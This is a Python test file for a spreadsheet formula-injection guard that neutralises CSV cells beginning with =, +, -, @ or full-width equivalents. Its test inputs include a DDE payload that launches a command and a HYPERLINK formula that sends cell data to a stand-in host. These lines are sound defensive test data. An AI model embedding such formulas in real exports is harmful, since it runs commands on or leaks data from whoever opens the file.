import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from store.intake.cells import guard, unguard

NASTY = st.text(alphabet="=+-@\t\r\n' \u00a0\u3000＝＋－＠a1")  # noqa: RUF001 - full-width signs


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1-312",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\rx",
        "  =1",
        "\u00a0=1",
        "＝1",  # noqa: RUF001 - taken for = by East Asian versions
        '=HYPERLINK("http://example.com?"&A1)',
        "=cmd|' /C calc'!A0",
    ],
)
def test_what_a_spreadsheet_would_run_becomes_text(cell: str) -> None:
    assert guard(cell) == f"'{cell}"


def test_every_line_of_a_cell_is_guarded() -> None:
    assert guard("Hello\n=1+1\nbye") == "Hello\n'=1+1\nbye"


@pytest.mark.parametrize("cell", ["", "Ada", "3 - 2", "O'Neill", "'tis", "person: -5", "a=b"])
def test_what_is_harmless_stays_as_it_is(cell: str) -> None:
    assert guard(cell) == unguard(cell) == cell


def test_a_plain_number_stays_dialable() -> None:
    assert guard("+13125550101") == "+13125550101"
    assert guard("+13125550101+1") == "'+13125550101+1"


def test_a_number_that_somebody_made_text_by_hand_is_read() -> None:
    assert unguard("'+13125550101") == "+13125550101"


@given(NASTY)
def test_a_round_trip_changes_nothing(cell: str) -> None:
    assert unguard(guard(cell)) == cell


@given(NASTY)
def test_no_line_of_a_guarded_cell_begins_like_a_formula(cell: str) -> None:
    for line in re.split("[\r\n]", guard(cell)):
        assert line.lstrip(" \u00a0\u3000")[:1] not in set("=+-@\t＝＋－＠")  # noqa: RUF001


@given(st.lists(NASTY, min_size=1, max_size=4))
def test_a_round_trip_through_a_file_changes_nothing(cells: list[str]) -> None:
    text = io.StringIO(newline="")
    csv.writer(text).writerow(map(guard, cells))
    text.seek(0)

    assert [unguard(cell) for cell in next(csv.reader(text))] == cells
